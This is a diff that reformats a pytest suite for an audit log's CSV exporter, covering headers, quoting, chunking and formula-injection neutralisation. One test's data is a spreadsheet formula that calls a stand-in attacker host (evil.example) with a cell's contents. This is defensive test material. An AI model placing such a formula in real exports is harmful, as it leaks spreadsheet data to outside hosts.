@@ -7,12 +7,14 @@ import io
 import json
 
 import pytest
+from helpers_engine import SAMPLE_SIG as SIG
+from helpers_engine import SAMPLE_TS as TS
+from helpers_engine import sample_entry as entry
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from engine.entry import Entry, format_ts
 from export.csv import CHUNK_CHARS, CSV_COLUMNS, iter_csv
-from helpers_engine import SAMPLE_SIG as SIG, SAMPLE_TS as TS, sample_entry as entry
 
 
 def render(entries, bom: bool = True) -> str:
@@ -32,8 +34,10 @@ def rows(*entries: Entry) -> list[dict[str, str]]:
 
 def test_header_bom_and_crlf() -> None:
     text = render([entry()])
-    assert text.startswith("\ufefftimestamp,node_id,seq,user,action,target,domain,ip_address,"
-                           "user_agent,success,details,signature,integrity\r\n")
+    assert text.startswith(
+        "\ufefftimestamp,node_id,seq,user,action,target,domain,ip_address,"
+        "user_agent,success,details,signature,integrity\r\n"
+    )
     assert text.count("\r\n") == 2 and text.endswith("\r\n")
     assert "\n" not in text.replace("\r\n", "")
     assert not render([entry()], bom=False).startswith("\ufeff")
@@ -44,14 +48,33 @@ def test_header_alone_for_no_entries() -> None:
 
 
 def test_cells_in_column_order() -> None:
-    (row,) = rows(entry(seq=42, ts=TS, user="bob", action="config.dkim_rotate", target="sel1",
-                        domain="example.com", ip="2001:db8::1", user_agent="curl/8.5",
-                        success=False, details={"old": "a", "new": "b"}))
+    (row,) = rows(
+        entry(
+            seq=42,
+            ts=TS,
+            user="bob",
+            action="config.dkim_rotate",
+            target="sel1",
+            domain="example.com",
+            ip="2001:db8::1",
+            user_agent="curl/8.5",
+            success=False,
+            details={"old": "a", "new": "b"},
+        )
+    )
     assert row == {
-        "timestamp": "2026-03-14T09:12:33.123456Z", "node_id": "node-a", "seq": "42",
-        "user": "bob", "action": "config.dkim_rotate", "target": "sel1",
-        "domain": "example.com", "ip_address": "2001:db8::1", "user_agent": "curl/8.5",
-        "success": "false", "details": '{"new":"b","old":"a"}', "signature": SIG.hex(),
+        "timestamp": "2026-03-14T09:12:33.123456Z",
+        "node_id": "node-a",
+        "seq": "42",
+        "user": "bob",
+        "action": "config.dkim_rotate",
+        "target": "sel1",
+        "domain": "example.com",
+        "ip_address": "2001:db8::1",
+        "user_agent": "curl/8.5",
+        "success": "false",
+        "details": '{"new":"b","old":"a"}',
+        "signature": SIG.hex(),
         "integrity": "ok",
     }
 
@@ -63,10 +86,9 @@ def test_nulls_are_empty_cells_and_success_true() -> None:
 
 
 def test_details_compact_sorted_unicode_and_tuples() -> None:
-    details = {"z": -5, "a": ("x", 1, {"k": None}), "subject": "Grüße, \"quoted\"\nline 2"}
+    details = {"z": -5, "a": ("x", 1, {"k": None}), "subject": 'Grüße, "quoted"\nline 2'}
     (row,) = rows(entry(details=details))
-    assert row["details"] == ('{"a":["x",1,{"k":null}],"subject":"Grüße, \\"quoted\\"\\nline 2",'
-                              '"z":-5}')
+    assert row["details"] == ('{"a":["x",1,{"k":null}],"subject":"Grüße, \\"quoted\\"\\nline 2","z":-5}')
     assert json.loads(row["details"])["z"] == -5  # a negative number inside {...} is untouched
 
 
@@ -84,12 +106,20 @@ def test_marker_row_carries_the_violation_text() -> None:
 
 
 @pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
-@pytest.mark.parametrize("field, column", [
-    ("user", "user"), ("target", "target"), ("domain", "domain"), ("user_agent", "user_agent"),
-    ("action", "action"), ("ip", "ip_address"), ("node", "node_id"),
-])
+@pytest.mark.parametrize(
+    "field, column",
+    [
+        ("user", "user"),
+        ("target", "target"),
+        ("domain", "domain"),
+        ("user_agent", "user_agent"),
+        ("action", "action"),
+        ("ip", "ip_address"),
+        ("node", "node_id"),
+    ],
+)
 def test_formula_injection_neutralised(lead: str, field: str, column: str) -> None:
-    payload = f"{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
     (row,) = rows(entry(**{field: payload}))
     assert row[column] == "'" + payload
     for other in ("user", "target", "domain", "user_agent"):
@@ -99,8 +129,7 @@ def test_formula_injection_neutralised(lead: str, field: str, column: str) -> No
 
 def test_every_cell_of_a_row_is_neutralised_at_once() -> None:
     (row,) = rows(entry(user="=1+1", target="+1", domain="-1", user_agent="@SUM(A1)"))
-    assert (row["user"], row["target"], row["domain"], row["user_agent"]) == \
-        ("'=1+1", "'+1", "'-1", "'@SUM(A1)")
+    assert (row["user"], row["target"], row["domain"], row["user_agent"]) == ("'=1+1", "'+1", "'-1", "'@SUM(A1)")
 
 
 def test_formula_chars_not_at_the_start_are_left_alone() -> None:
@@ -109,18 +138,31 @@ def test_formula_chars_not_at_the_start_are_left_alone() -> None:
     assert row["user_agent"] == "Mozilla/5.0 (KHTML, like Gecko) +x"
 
 
-@pytest.mark.parametrize("value", [
-    'say "hi"', "a,b", "line1\nline2", "line1\r\nline2", "cr\ronly", '"', ",", '",\r\n"',
-    "  leading and trailing  ", "Zürich – 東京 – 🙂", "'already quoted",
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        'say "hi"',
+        "a,b",
+        "line1\nline2",
+        "line1\r\nline2",
+        "cr\ronly",
+        '"',
+        ",",
+        '",\r\n"',
+        "  leading and trailing  ",
+        "Zürich – 東京 – 🙂",
+        "'already quoted",
+    ],
+)
 def test_special_text_round_trips(value: str) -> None:
     (row,) = rows(entry(user=value, target=value, user_agent=value))
     assert row["user"] == row["target"] == row["user_agent"] == value
 
 
 def test_many_rows_come_in_bounded_chunks() -> None:
-    entries = [entry(seq=i, user=f"user{i}", user_agent="Mozilla/5.0 (X11, Linux)",
-                     details={"n": i}) for i in range(1, 3001)]
+    entries = [
+        entry(seq=i, user=f"user{i}", user_agent="Mozilla/5.0 (X11, Linux)", details={"n": i}) for i in range(1, 3001)
+    ]
     chunks = list(iter_csv(entries))
     assert len(chunks) > 3
     assert all(len(c) < CHUNK_CHARS + 2000 for c in chunks)
@@ -152,11 +194,18 @@ def _shown(value: str | None) -> str:
 
 
 @settings(max_examples=300)
-@given(user=_field_text, target=_opt_text, domain=_opt_text, user_agent=_opt_text,
-       details=st.dictionaries(st.text(max_size=8), st.one_of(st.text(max_size=20),
-                               st.integers(), st.booleans(), st.none()), max_size=4))
-def test_round_trip_of_arbitrary_text(user: str, target: str | None, domain: str | None,
-                                      user_agent: str | None, details: dict) -> None:
+@given(
+    user=_field_text,
+    target=_opt_text,
+    domain=_opt_text,
+    user_agent=_opt_text,
+    details=st.dictionaries(
+        st.text(max_size=8), st.one_of(st.text(max_size=20), st.integers(), st.booleans(), st.none()), max_size=4
+    ),
+)
+def test_round_trip_of_arbitrary_text(
+    user: str, target: str | None, domain: str | None, user_agent: str | None, details: dict
+) -> None:
     e = entry(user=user, target=target, domain=domain, user_agent=user_agent, details=details)
     (row,) = rows(e)
     assert row["user"] == _shown(user)
@@ -176,6 +225,21 @@ def test_matches_the_csv_module_on_plain_cells(pairs: list[tuple[str, str]]) -> 
     writer = csv.writer(buf, lineterminator="\r\n")
     writer.writerow(CSV_COLUMNS)
     for e in entries:
-        writer.writerow([format_ts(e.ts), e.node, e.seq, e.user, e.action, e.target, e.domain,
-                         e.ip, e.user_agent, "true", "{}", e.signature.hex(), e.integrity])
+        writer.writerow(
+            [
+                format_ts(e.ts),
+                e.node,
+                e.seq,
+                e.user,
+                e.action,
+                e.target,
+                e.domain,
+                e.ip,
+                e.user_agent,
+                "true",
+                "{}",
+                e.signature.hex(),
+                e.integrity,
+            ]
+        )
     assert render(entries, bom=False) == buf.getvalue()
